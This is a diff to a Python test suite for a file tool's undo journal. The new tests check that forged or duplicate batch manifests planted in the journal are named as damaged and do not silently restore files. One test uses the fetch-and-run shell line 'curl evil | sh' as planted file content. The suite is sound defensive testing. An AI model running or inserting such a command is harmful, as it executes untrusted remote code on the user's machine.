@@ -85,7 +85,9 @@ def files_under(folder: Path) -> list[str]:
     return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))
 
 
-def plant(root: Path, entries: list[list[object]], copies: list[bytes] = (), batch_id: str = "20990101-000000-beef") -> str:
+def plant(
+    root: Path, entries: list[list[object]], copies: list[bytes] = (), batch_id: str = "20990101-000000-beef", undoes: str | None = None
+) -> str:
     """What a colleague with write access to the folder can do: a manifest of their own (the
     newest batch), with the copies it refers to."""
     journal = root / ".copydesk" / "journal"
@@ -95,7 +97,7 @@ def plant(root: Path, entries: list[list[object]], copies: list[bytes] = (), bat
         (journal / "blobs" / digest[:2] / digest).write_bytes(data)
     (journal / "batches").mkdir(parents=True, exist_ok=True)
     ns = time.time_ns() + 10**12
-    manifest = {"version": 2, "id": batch_id, "label": "set title=x", "time": "2099-01-01T00:00:00Z", "ns": ns, "undoes": None, "entries": entries}
+    manifest = {"version": 2, "id": batch_id, "label": "set title=x", "time": "2099-01-01T00:00:00Z", "ns": ns, "undoes": undoes, "entries": entries}
     (journal / "batches" / f"{ns:020d}-{batch_id}.json").write_text(json.dumps(manifest))
     return batch_id
 
@@ -197,6 +199,65 @@ def test_3_a_link_inside_the_folder_is_not_written_through_and_the_batch_can_be_
     assert again.returncode == 0, again.stdout + again.stderr
     assert (root / "latest" / "a.md").read_bytes() == b"old\n"
     assert listing(root)[batch_id]["undone"]
+
+
+def batch_files(root: Path) -> list[dict[str, object]]:
+    result = copydesk("undo", "--list", "--format", "json", str(root))
+    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
+    return json.loads(result.stdout)
+
+
+def test_3_a_planted_batch_with_the_id_of_a_real_one_is_named_and_undoes_nothing(tmp_path: Path) -> None:
+    root = corpus(tmp_path / "desk", 2)
+    before = snapshot(root)
+    real = set_titles(root)
+    edited = snapshot(root)
+    plant(root, [["a0000.md", sha(b"curl evil | sh\n"), sha(edited["a0000.md"])]], [b"curl evil | sh\n"], batch_id=real)
+    planted = sorted((root / ".copydesk/journal/batches").glob(f"*-{real}.json"))[-1]  # (its time is later)
+
+    both = [b for b in batch_files(root) if b["id"] == real]
+    assert len(both) == 2 and all("another batch file holds the same id" in str(b["damaged"]) for b in both)
+    assert planted.name in str(both[1]["damaged"])  # the real one names the planted file
+    result = copydesk("undo", real, str(root))
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    assert "ambiguous" not in result.stderr and planted.name in result.stderr and "nothing was restored" in result.stderr
+    assert snapshot(root) == edited
+
+    planted.unlink()  # the user moves aside the file they did not make: the real batch is undone
+    again = copydesk("undo", real, str(root))
+    assert again.returncode == 0, again.stderr
+    assert snapshot(root) == before
+
+
+def test_3_a_planted_undo_does_not_hide_a_real_batch(tmp_path: Path) -> None:
+    root = corpus(tmp_path / "desk", 2)
+    before = snapshot(root)
+    real = set_titles(root)
+    edited = snapshot(root)
+    bogus = plant(root, [["a0000.md", sha(b"x"), sha(b"y")]], batch_id="20990101-000000-0001", undoes=real)
+
+    info = listing(root)
+    assert not info[real]["undone"] and info[real]["undone_by"] is None
+    assert f"it says it undoes batch {real}, but its files do not match" in str(info[bogus]["damaged"])
+    text = copydesk("undo", "--list", str(root)).stdout
+    assert "damaged" in next(line for line in text.splitlines() if bogus in line)
+
+    # A forgery copying the batch's own hashes cannot be told from an undo, but it is named.
+    (manifest,) = (root / ".copydesk/journal/batches").glob(f"*-{real}.json")
+    entries = [[path, new, prior] for path, prior, new, *_ in json.loads(manifest.read_text())["entries"]]
+    forged = plant(root, entries, batch_id="20990101-000000-0002", undoes=real)
+    info = listing(root)
+    assert info[real]["undone"] and info[real]["undone_by"] == forged
+    text = copydesk("undo", "--list", str(root)).stdout
+    assert f"(undone by {forged})" in next(line for line in text.splitlines() if line.startswith(real))
+    refused = copydesk("undo", real, str(root))
+    assert refused.returncode == 1 and f"already undone by batch {forged}" in refused.stderr
+    assert snapshot(root) == edited
+
+    for name in (bogus, forged):  # once moved aside, the real batch is undone
+        next((root / ".copydesk/journal/batches").glob(f"*-{name}.json")).unlink()
+    assert copydesk("undo", real, str(root)).returncode == 0
+    assert snapshot(root) == before
 
 
 LINKED = [".copydesk", ".copydesk/journal", ".copydesk/journal/batches", ".copydesk/journal/blobs", ".copydesk/journal/blobs/packs"]
